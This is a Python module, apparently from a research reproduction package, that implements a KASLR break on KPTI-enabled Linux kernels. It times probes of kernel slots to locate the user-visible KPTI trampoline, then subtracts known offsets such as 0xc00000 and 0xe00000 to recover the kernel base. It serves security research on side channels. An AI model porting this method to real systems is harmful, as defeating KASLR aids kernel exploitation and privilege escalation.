"""KASLR break on a KPTI-enabled kernel (paper Section IV-D).

With KPTI the kernel is unmapped from the user page table, so probing the
512 slots finds nothing -- *except* the KPTI trampoline (the entry stub,
e.g. ``entry_SYSCALL_64``), which must stay user-visible.  Because KASLR
shifts the whole image, the trampoline sits at a constant, build-specific
offset from the base: finding the trampoline finds the base.

The paper confirmed the offset 0xc00000 on Ubuntu's 5.11.0-27 kernel and
0xe00000 on the EC2 AWS kernel; this attack takes the offset as input, the
same way the paper's threat model grants knowledge of constant offsets.
"""

from repro.attacks.calibrate import calibrate_store_threshold
from repro.attacks.kaslr_break import KaslrBreakResult
from repro.os.linux import layout


def break_kaslr_kpti(machine, trampoline_offset=None, rounds=None,
                     calibration=None, engine=None):
    """Locate the trampoline in the user table and subtract its offset."""
    core = machine.core
    if rounds is None:
        rounds = machine.cpu.rounds_default
    if trampoline_offset is None:
        # default to the known offset for the victim's kernel build
        trampoline_offset = layout.KPTI_TRAMPOLINE_OFFSETS.get(
            machine.kernel.version, layout.DEFAULT_TRAMPOLINE_OFFSET
        )

    total_start = core.clock.cycles
    core.run_setup()
    if calibration is None:
        calibration = calibrate_store_threshold(machine, engine=engine)

    probe_start = core.clock.cycles
    vas = [
        layout.kernel_base_of_slot(slot)
        for slot in range(layout.KERNEL_TEXT_SLOTS)
    ]
    timings = list(core.probe_sweep(vas, rounds=rounds, op="load",
                                    engine=engine))
    probing_ms = core.clock.cycles_to_ms(
        core.clock.elapsed_since(probe_start)
    )

    mapped = [
        slot for slot, t in enumerate(timings)
        if calibration.classify_mapped(t)
    ]
    base, slot = None, None
    if mapped:
        trampoline_va = layout.kernel_base_of_slot(mapped[0])
        base = trampoline_va - trampoline_offset
        slot = layout.kernel_slot_of(base)
    total_ms = core.clock.cycles_to_ms(core.clock.elapsed_since(total_start))
    return KaslrBreakResult(
        base, slot, timings, calibration.threshold, probing_ms, total_ms,
        mapped, method="kpti-trampoline",
    )
